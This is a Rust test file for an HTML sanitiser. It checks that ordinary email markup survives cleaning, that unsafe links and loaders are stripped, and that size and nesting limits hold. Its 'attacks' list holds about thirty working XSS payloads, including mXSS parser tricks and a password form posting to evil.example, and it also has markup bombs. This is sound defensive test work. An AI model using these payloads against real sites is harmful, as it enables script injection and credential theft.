//! HTML from outside, from the friendly to the hostile.

use crate::clean_html;
use crate::html::{NESTING_MAX, SIZE_MAX};

#[track_caller]
fn cleaned(source: &str, expected: &str) {
    assert_eq!(clean_html(source).html, expected, "{source}");
}

#[test]
fn what_says_something_stays() {
    cleaned("<p>Hello <b>you</b>,<br>see below.</p>", "<p>Hello <b>you</b>,<br>see below.</p>");
    cleaned("<p>无法登录 &amp; 报错 &lt;0x80040265&gt;</p>", "<p>无法登录 &amp; 报错 &lt;0x80040265&gt;</p>");
    cleaned(
        "<table><tr><td colspan=2 style='color:red'>a<td>b</table>",
        "<table><tbody><tr><td colspan=\"2\">a</td><td>b</td></tr></tbody></table>",
    );
    cleaned("<blockquote type=cite><pre>x\n  y</pre></blockquote>", "<blockquote><pre>x\n  y</pre></blockquote>");
    cleaned("<font color=red>a</font> <o:p>b</o:p>", "a b");
    cleaned("<html><head><title>Mail</title><style>p{}</style></head><body bgcolor=red>a</body></html>", "a");
    cleaned("<img src=\"cid:logo@x\" alt=\"Logo\">", "<img src=\"cid:logo@x\" alt=\"Logo\">");
}

#[test]
fn links_lead_out_safely_or_nowhere() {
    let rel = "rel=\"noopener noreferrer\"";
    let links = [
        ("https://x.example/?a=1&amp;b=2", true),
        ("http://x.example", true),
        ("mailto:a@x.example", true),
        ("HTTPS://x.example", true),
        ("javascript:alert(1)", false),
        ("  javascript:alert(1)", false),
        ("java\tscript:alert(1)", false),
        ("&#106;avascript:alert(1)", false),
        ("data:text/html,x", false),
        ("vbscript:x", false),
        ("cid:logo", false),
        ("//x.example/a", false),
        ("/tickets/1", false),
        ("file:///etc/passwd", false),
        ("tel:123", false),
    ];
    for (address, kept) in links {
        let html = clean_html(&format!("<a href=\"{address}\">t</a>")).html;
        assert_eq!(html.contains("href"), kept, "{html}");
        assert!(html.contains(rel) && html.contains(">t</a>"), "{html}");
    }
}

#[test]
fn what_loads_acts_or_hides_goes() {
    let attacks = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://evil.example/pixel.gif\" width=1 height=1>",
        "<img src=\"CID:x\" srcset=\"https://evil.example/a 1x\" onload=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=https://evil.example><input name=password><button>ok</button></form>",
        "<a href=\"https://x\" onclick=\"alert(1)\" style=\"position:fixed\">t</a>",
        "<div style=\"background:url(https://evil.example/x)\">t</div>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example>",
        "<body onload=alert(1)>",
        "<table background=https://evil.example/x><tr><td>t</table>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<p title=\"&quot;><script>alert(1)</script>\">t</p>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<a href='x\"onmouseover=alert(1)'>t</a>",
        "<template><script>alert(1)</script></template>",
        "<style><!--</style><img src=x onerror=alert(1)>-->",
        "<xmp><script>alert(1)</script></xmp>",
        "<video src=https://evil.example/x autoplay></video><audio src=x>",
        "<b \u{0}onclick=alert(1)>t</b>",
    ];
    for attack in attacks {
        let html = clean_html(attack).html.to_lowercase();
        // What stays of an attack is text, or a title that says so: nothing that is markup may act or load.
        let tags = html.split('<').skip(1).filter_map(|part| part.split_once('>')).map(|(tag, _)| tag);
        let markup: String = tags.map(|tag| tag.split(" title=\"").next().unwrap_or_default()).collect();
        let acts = [
            "script",
            "onerror",
            "onload",
            "onclick",
            "onbegin",
            "onmouseover",
            "evil.example",
            "style",
            "iframe",
            "srcset",
        ];
        for word in acts {
            assert!(!markup.contains(word), "{attack} -> {html}");
        }
    }
}

#[test]
fn cleaning_twice_changes_nothing() {
    let sources = [
        "<p>a<p>b<ul><li>c<li>d</ul>",
        "<a href=\"https://x/?a=1&amp;b=2\" title='\"'>t</a> &amp; &lt;",
        "<table><tr><td>a<td>b</table>",
        "<b>a<i>b</b>c</i> <div><p>x</div>",
    ];
    for source in sources {
        let once = clean_html(source).html;
        assert_eq!(clean_html(&once).html, once, "{source}");
    }
}

#[test]
fn template_marks_are_text() {
    cleaned("<p>{{7*7}} {% raw %}</p>", "<p>{{7*7}} {% raw %}</p>");
}

/// The work is bounded by what reaches the second stage: its size, depth and attributes, not the source's.
#[test]
fn bombs_are_small_when_they_reach_the_parser() {
    let depth = |html: &str| {
        let mut deepest = 0usize;
        let mut open = 0usize;
        for part in html.split('<').skip(1) {
            open = if part.starts_with('/') { open.saturating_sub(1) } else { open + 1 };
            deepest = deepest.max(open);
        }
        deepest
    };
    let bombs = [
        "<div>".repeat(100_000),
        "<b>".repeat(160_000),
        "<div><table><tr><td></div>".repeat(20_000),
        "<p><b><i><u>".repeat(40_000),
        (0..40_000).map(|n| format!("<b title={n}>")).collect(),
        (0..20_000).map(|n| format!("<b title={n}><p></b>")).collect(),
        "<a href=https://x><div>".repeat(20_000),
        "<ul><li>".repeat(60_000),
        "<table>".repeat(70_000),
        "<select><option>".repeat(30_000),
        format!("<b {}>x", "a=1 ".repeat(120_000)),
        "<!--".repeat(120_000),
        "<a \"".repeat(120_000),
        "</div>".repeat(80_000),
        "<script>".repeat(60_000),
        "&".repeat(500_000),
        "&aa;".repeat(100_000),
        format!("<p title='{}'>x", "\"".repeat(250_000)),
    ];
    for bomb in bombs {
        assert!(bomb.len() > 200_000);
        let clean = clean_html(&bomb);
        // Implied rows and bodies of tables may add to what we let through.
        assert!(depth(&clean.html) <= 3 * NESTING_MAX, "{}", &bomb[..40]);
        assert!(clean.html.len() < 4 * SIZE_MAX, "{}", &bomb[..40]);
    }
}

#[test]
fn a_long_source_is_cut_and_says_so() {
    let long = format!("<p>{}</p>", "很".repeat(SIZE_MAX));
    let clean = clean_html(&long);
    assert!(clean.shortened && clean.html.starts_with("<p>很") && clean.html.ends_with("很</p>"));
    assert!(!clean_html("<p>short</p>").shortened);
}
